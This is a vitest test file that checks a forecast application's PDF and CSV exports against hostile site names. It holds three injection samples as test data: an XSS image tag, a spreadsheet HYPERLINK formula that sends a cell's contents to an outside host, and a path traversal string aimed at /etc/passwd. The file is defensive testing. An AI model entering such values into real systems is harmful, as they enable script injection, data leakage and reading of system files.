import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { pdfMetadata, readPdf } from '../server/reports/readPdf.ts'
import { applicationKey, type SeededApp, seededApp } from '../server/seededApp.ts'

let server: SeededApp
beforeAll(async () => {
  server = await seededApp()
})
afterAll(() => server.close())

it.each([
  '<img src=x onerror="window.hostile=1">',
  '=HYPERLINK("http://example.org?x="&A1,"click")',
  '../../../etc/passwd',
])('the exports of a site called %s contain its name as text, and no path in the file name', async (name) => {
  const site = { name, description: name, latitude: 54, longitude: 6.6 }
  const { data: siteId } = await server.call('/settings/sites', { as: 'admin', method: 'POST', body: site })
  const { app, tokenOf } = server
  const signedIn = { authorization: `Bearer ${await tokenOf('admin')}`, 'x-api-key': applicationKey }
  const pdf = await app.inject({
    method: 'POST',
    url: '/forecast/pdf',
    headers: { ...signedIn, accept: 'application/pdf, application/problem+json' },
    payload: {
      siteId,
      days: 5,
      inLocalTime: false,
      showThresholds: true,
      upper: 1,
      lower: 1,
      thresholds: [],
    },
  })
  expect(pdf.statusCode, pdf.body.slice(0, 200)).toBe(200)
  expect((await pdfMetadata(pdf.rawPayload)).title).toBe(`Forecast ${name}`)
  for (const { lines } of await readPdf(pdf.rawPayload)) expect(lines).toContain(name)

  const csv = await app.inject({
    url: `/report/csv/${siteId}?days=5&inLocalTime=false`,
    headers: { ...signedIn, accept: 'text/csv, application/problem+json' },
  })
  expect(csv.statusCode).toBe(200)
  const rows: string[][] = parse(csv.rawPayload, { bom: true, relaxColumnCount: true })
  const cells = rows.flat()
  expect(cells.filter((cell) => /^\s*[=+@]/.test(cell))).toEqual([])
  expect(cells.some((cell) => cell.includes(name))).toBe(true)

  // Dots without a slash are harmless, except at the start, where they hide the file.
  const dispositions = [pdf, csv].map(({ headers }) => String(headers['content-disposition'] ?? ''))
  for (const disposition of dispositions)
    for (const [, file = ''] of disposition.matchAll(/filename\*?=(?:UTF-8'')?"?([^";]+)/g))
      expect(decodeURIComponent(file)).not.toMatch(/[/\\:<>|?*"\p{C}]|^\./u)
})
